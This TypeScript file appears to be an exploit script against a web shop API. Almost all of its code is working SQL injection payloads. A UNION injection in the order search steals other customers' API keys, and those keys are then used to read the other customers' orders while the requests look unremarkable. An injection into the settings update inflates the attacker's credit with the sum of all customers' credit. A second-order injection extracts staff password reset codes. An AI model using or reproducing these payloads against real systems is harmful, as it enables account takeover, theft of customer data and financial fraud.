import { request } from 'ounce:client';

interface Me {
  name: string;
  key: string;
}

async function send(me: Me, method: string, url: string, body?: unknown): Promise<any> {
  const response = await request({ method, url, headers: { 'x-key': me.key }, body });
  return response.status === 200 ? JSON.parse(response.body) : `${response.status} ${response.body}`;
}

const search = (me: Me, item: string): Promise<any> => send(me, 'GET', `/orders?item=${encodeURIComponent(item)}`);
const report = (me: Me, sort: string): Promise<any> => send(me, 'GET', `/report?sort=${encodeURIComponent(sort)}`);

/** With the keys of the others, their orders are read as they read them: no request of these is unusual. */
export async function readOrders(me: Me): Promise<unknown> {
  const keys = (await readKey(me)) as string[];
  return Promise.all(keys.map((key) => search({ ...me, key }, '')));
}

export async function readKey(me: Me): Promise<unknown> {
  const rows: { reference: string }[] = await search(me, `' AND 0 UNION\nSELECT key, '', '', '' FROM customers /*`);
  return rows.map(({ reference }) => reference).filter((key) => key !== me.key);
}

export async function raiseCredit(me: Me): Promise<void> {
  await send(me, 'PUT', '/settings', { language: `'', credit = (SELECT sum(credit) FROM customers) --` });
}

/** The code is stored as the customer's own language first, and then read from there through the search. */
export async function readCode(me: Me): Promise<unknown> {
  await send(me, 'PUT', '/settings', { language: `'' || (SELECT max(reset_code) FROM staff) || '` });
  return search(me, `' AND 0 UNION ALL SELECT language, '', '', '' FROM customers WHERE key = '${me.key}' --`);
}
